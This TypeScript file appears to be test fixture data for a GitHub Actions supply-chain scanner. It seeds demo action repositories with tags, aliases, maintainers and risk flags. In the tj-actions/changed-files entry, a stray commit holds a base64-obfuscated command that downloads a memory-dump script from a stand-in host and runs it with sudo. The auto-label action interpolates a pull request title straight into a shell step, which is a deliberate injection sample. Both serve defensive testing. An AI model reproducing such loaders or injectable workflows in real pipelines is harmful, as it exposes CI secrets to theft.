import type { Author, FileContent, PastCommit } from './git.ts';
import type { World } from './world.ts';

interface DemoVersion {
  readonly tag: string;
  readonly daysAgo: number;
  readonly oid?: string;
  readonly branch?: string;
}

interface DemoAction {
  readonly name: string;
  readonly description: string;
  readonly stars: number;
  readonly files: Readonly<Record<string, FileContent>>;
  readonly versions: readonly DemoVersion[];
  readonly aliases?: Readonly<Record<string, string>>;
  readonly branches?: readonly string[];
  readonly maintainers?: 1 | 2;
  readonly archived?: true;
  readonly immutable?: true;
  readonly unsigned?: true;
  readonly neglected?: true;
  readonly strays?: readonly { readonly oid: string; readonly files: Readonly<Record<string, FileContent>> }[];
}

export const MOVED_TAG = {
  action: 'initech/setup-scanner',
  ref: 'refs/tags/v2.1.0',
  before: '5e1fbc80a1f7c6f2d8f5a9c3b4e6d7f8091a2b3c',
} as const;

const FIRST_ID = 7101;
const PUBLISHERS_SINCE = '2018-05-01T09:00:00Z';
const HUMANS = ['Robin', 'Kim'].map((name) => ({ name, email: `${name.toLowerCase()}@publisher.example` }));

interface Interface {
  readonly inputs?: readonly string[];
  readonly outputs?: readonly string[];
}

const listed = (key: string, names: readonly string[]): string =>
  names.length === 0 ? '' : `${key}:\n${names.map((name) => `  ${name}: { description: ${name} }\n`).join('')}`;
const definition = (name: string, runs: string, { inputs = [], outputs = [] }: Interface = {}): string =>
  `name: ${name}\ndescription: ${name}\n${listed('inputs', inputs)}${listed('outputs', outputs)}runs:\n${runs}`;
const node = (name: string, { using = 'node24', ...rest }: Interface & { readonly using?: string } = {}) => ({
  'action.yml': definition(name, `  using: ${using}\n  main: dist/index.js\n`, rest),
  'dist/index.js': `console.log(${JSON.stringify(name)});\n`,
});
const SOURCES = {
  'src/index.ts': "export const name: string = 'stands in for the real sources';\n",
  'package.json': '{"name":"action","private":true,"scripts":{"build":"ncc build src/index.ts"}}\n',
  'package-lock.json': '{"name":"action","lockfileVersion":3,"packages":{}}\n',
};
const steps = (...lines: readonly string[]): string =>
  `  using: composite\n  steps:\n${lines.map((line) => `    ${line}\n`).join('')}`;

const DUMP = `echo "${Buffer.from('curl -sSf https://gist.example/raw/memdump.py | sudo python3\n').toString('base64')}" | base64 -d > /tmp/run.sh && bash /tmp/run.sh`;

const CHANGED_FILES = node('Changed files', {
  using: 'node20',
  inputs: ['files', 'separator'],
  outputs: ['all_changed_files', 'any_changed'],
});

export const DEMO_ACTIONS: readonly DemoAction[] = [
  {
    name: 'actions/checkout',
    description: 'Checks out a repository',
    stars: 7_400,
    files: {
      ...node('Checkout', {
        inputs: ['repository', 'ref', 'token', 'path', 'fetch-depth', 'persist-credentials', 'submodules'],
        outputs: ['ref', 'commit'],
      }),
      ...SOURCES,
    },
    versions: [
      { tag: 'v4.3.1', daysAgo: 330 },
      { tag: 'v5.0.0', daysAgo: 300, oid: '08c6903cd8c0fde910a37f88322edcfb5dd907a8', branch: 'releases/v5' },
      { tag: 'v6.1.0', daysAgo: 130 },
      { tag: 'v7.0.1', daysAgo: 120, oid: '3d3c42e5aac5ba805825da76410c181273ba90b1' },
    ],
    aliases: { v4: 'v4.3.1', v5: 'v5.0.0', v6: 'v6.1.0', v7: 'v7.0.1' },
    immutable: true,
  },
  ...(
    [
      ['actions/cache', 'Caches dependencies', 5_200, ['v4.3.0', 'v5.0.1'], ['path', 'key', 'restore-keys']],
      ['actions/setup-python', 'Installs Python', 2_100, ['v5.6.0', 'v6.0.0'], ['python-version', 'cache']],
      ['actions/upload-artifact', 'Keeps files of a run', 3_900, ['v4.6.2', 'v5.0.0'], ['name', 'path']],
      [
        'actions/download-artifact',
        'Fetches files of a run',
        1_700,
        ['v4.3.0', 'v5.0.0'],
        ['name', 'path', 'run-id', 'github-token'],
      ],
      [
        'aws-actions/configure-aws-credentials',
        'Signs in to AWS',
        2_900,
        ['v4.3.1', 'v5.0.0'],
        ['role-to-assume', 'aws-region'],
      ],
    ] as const
  ).map(
    ([name, description, stars, tags, inputs]): DemoAction => ({
      name,
      description,
      stars,
      files: { ...node(description, { inputs, outputs: name === 'actions/cache' ? ['cache-hit'] : [] }), ...SOURCES },
      versions: tags.map((tag, index) => ({ tag, daysAgo: 200 - index * 150 })),
      aliases: Object.fromEntries(tags.map((tag) => [tag.slice(0, 2), tag])),
    }),
  ),
  {
    name: 'anthropics/claude-code-action',
    description: 'Lets Claude answer issues and pull requests',
    stars: 5_600,
    files: {
      'action.yml': definition(
        'Claude Code',
        steps('- uses: actions/setup-node@v5', '- run: node "$GITHUB_ACTION_PATH/run.mjs"', '  shell: bash'),
        { inputs: ['anthropic_api_key', 'prompt', 'claude_args', 'allowed_non_write_users'] },
      ),
      'run.mjs': "console.log('answers');\n",
    },
    versions: [
      { tag: 'v1.0.88', daysAgo: 60 },
      { tag: 'v1.0.89', daysAgo: 40 },
    ],
    aliases: { v1: 'v1.0.89' },
  },
  {
    name: 'docker/login-action',
    description: 'Signs in to a registry',
    stars: 1_400,
    files: node('Docker login', { using: 'node20', inputs: ['registry', 'username', 'password'] }),
    versions: [
      { tag: 'v3.5.0', daysAgo: 140 },
      { tag: 'v3.6.0', daysAgo: 70 },
    ],
    aliases: { v3: 'v3.6.0' },
  },
  {
    name: 'docker/build-push-action',
    description: 'Builds and pushes images',
    stars: 5_100,
    files: node('Build and push', { using: 'node20', inputs: ['context', 'push', 'tags', 'file'] }),
    versions: [
      { tag: 'v6.18.0', daysAgo: 180 },
      { tag: 'v6.19.0', daysAgo: 50 },
    ],
    aliases: { v6: 'v6.19.0' },
    branches: ['master'],
  },
  {
    name: 'pypa/gh-action-pypi-publish',
    description: 'Publishes to PyPI',
    stars: 1_100,
    files: {
      'action.yml': definition('Publish', '  using: docker\n  image: Dockerfile\n', {
        inputs: ['user', 'password', 'attestations'],
      }),
      Dockerfile: 'FROM python:3.13-slim\nCOPY upload.py /upload.py\nENTRYPOINT ["python", "/upload.py"]\n',
      'upload.py': "print('publishes')\n",
    },
    versions: [
      { tag: 'v1.12.4', daysAgo: 240 },
      { tag: 'v1.13.0', daysAgo: 80 },
    ],
    branches: ['release/v1'],
  },
  {
    name: 'reviewdog/action-setup',
    description: 'Installs reviewdog',
    stars: 120,
    files: {
      'action.yml': definition(
        'Setup reviewdog',
        steps('- run: $GITHUB_ACTION_PATH/install.sh', '  shell: bash', '- uses: actions/cache@v4'),
      ),
      'install.sh': { executable: '#!/bin/sh\nset -e\necho "installs the checked release"\n' },
    },
    versions: [
      { tag: 'v1.3.2', daysAgo: 260 },
      { tag: 'v1.4.0', daysAgo: 90 },
    ],
    aliases: { v1: 'v1.4.0' },
  },
  {
    name: 'tj-actions/changed-files',
    description: 'Lists the files that a push changed',
    stars: 2_600,
    files: CHANGED_FILES,
    versions: [
      { tag: 'v45.0.7', daysAgo: 400 },
      { tag: 'v46.0.5', daysAgo: 150 },
      { tag: 'v47.0.0', daysAgo: 60 },
    ],
    aliases: { v45: 'v45.0.7', v46: 'v46.0.5', v47: 'v47.0.0' },
    maintainers: 1,
    strays: [
      {
        oid: '0e58ed8671d6b60d0890c21b07f8835ace038e67',
        files: {
          ...CHANGED_FILES,
          'dist/index.js': `exec.getExecOutput('bash', ['-c', ${JSON.stringify(DUMP)}], { silent: true });\n`,
        },
      },
    ],
  },
  {
    name: 'actions-rs/toolchain',
    description: 'Installs Rust',
    stars: 640,
    files: node('Rust toolchain', { using: 'node12', inputs: ['toolchain', 'profile', 'override'] }),
    versions: [
      { tag: 'v1.0.6', daysAgo: 2_300 },
      { tag: 'v1.0.7', daysAgo: 2_100 },
    ],
    aliases: { v1: 'v1.0.7' },
    maintainers: 1,
    archived: true,
    unsigned: true,
  },
  {
    name: MOVED_TAG.action,
    description: 'Installs a scanner; its newest tag was moved',
    stars: 310,
    files: {
      'action.yml': definition('Setup scanner', steps('- run: echo "installs the scanner"', '  shell: bash')),
    },
    versions: [
      { tag: 'v2.0.0', daysAgo: 220 },
      { tag: 'v2.1.0', daysAgo: 100 },
    ],
    aliases: { v2: 'v2.1.0' },
  },
  {
    name: 'initech/auto-label',
    description: 'Labels pull requests by their title',
    stars: 40,
    files: {
      'action.yml': `name: Auto label\ndescription: Labels\ninputs:\n  prefix: { description: Prefix, required: true }\nruns:\n${steps(
        '- uses: initech-helpers/parse-title@main',
        '- run: ./label.sh "${{ inputs.prefix }}" "${{ github.event.pull_request.title }}"',
        '  shell: bash',
      )}`,
      'label.sh': { executable: '#!/bin/sh\ngh pr edit --add-label "$1$2"\n' },
    },
    versions: [{ tag: 'v1', daysAgo: 45 }],
    maintainers: 1,
    unsigned: true,
    neglected: true,
  },
];

/** Adds the actions, whose ages are counted from now, so that their scores do not depend on the day. */
export async function seedActions(world: World, now = Date.now()): Promise<void> {
  for (const { name } of DEMO_ACTIONS) {
    const [login = ''] = name.split('/');
    world.addAccount({ login, type: 'Organization', createdAt: PUBLISHERS_SINCE });
  }
  await world.addHistories(
    DEMO_ACTIONS.map((action, index) => ({
      ...historyOf(action, now),
      ...(action.unsigned === undefined ? {} : { unsigned: action.unsigned }),
      repository: {
        fullName: action.name,
        id: FIRST_ID + index,
        description: action.description,
        stars: action.stars,
        createdAt: PUBLISHERS_SINCE,
        ...(action.archived === undefined ? {} : { archived: action.archived }),
        settings: {
          rulesets: [],
          ...(action.neglected === true ? { securityPolicy: false, license: null } : {}),
        },
        releases: action.versions.map(({ tag, daysAgo }) => ({
          tag,
          publishedAt: dateOf(now, daysAgo).toISOString(),
          immutable: action.immutable === true,
        })),
      },
    })),
  );
}

export function idOfAction(name: string): number {
  return FIRST_ID + DEMO_ACTIONS.findIndex((action) => action.name === name);
}

function historyOf(
  { files, versions, aliases = {}, branches = [], maintainers = 2, strays = [] }: DemoAction,
  now: number,
) {
  const commits: PastCommit[] = [];
  const refs: Record<string, number> = {};
  let main: number | undefined;
  const add = (commit: Omit<PastCommit, 'author'>, daysAgo: number): number => {
    const author: Author = {
      ...(HUMANS[commits.length % maintainers] as (typeof HUMANS)[number]),
      date: dateOf(now, daysAgo),
    };
    return commits.push({ ...commit, author, ...(main === undefined ? {} : { parent: main }) }) - 1;
  };
  const oldest = versions[0]?.daysAgo ?? 0;
  main = add({ files, message: 'First version' }, oldest + 30);
  for (const { tag, daysAgo, oid, branch } of versions) {
    const place = add(
      {
        files: { ...files, 'CHANGELOG.md': `${tag}\n` },
        message: `Release ${tag}`,
        ...(oid === undefined ? {} : { oid }),
      },
      daysAgo,
    );
    refs[`refs/tags/${tag}`] = place;
    refs[`refs/heads/${branch ?? 'main'}`] = place;
    if (oid === undefined) main = place;
  }
  for (const [alias, tag] of Object.entries(aliases)) refs[`refs/tags/${alias}`] = refs[`refs/tags/${tag}`] ?? 0;
  for (const branch of branches) refs[`refs/heads/${branch}`] = refs['refs/heads/main'] ?? 0;
  for (const stray of strays) add({ ...stray, message: 'Update' }, 10);
  return { history: { commits, refs } };
}

function dateOf(now: number, daysAgo: number): Date {
  return new Date(Math.floor(now / 86_400_000) * 86_400_000 - daysAgo * 86_400_000);
}
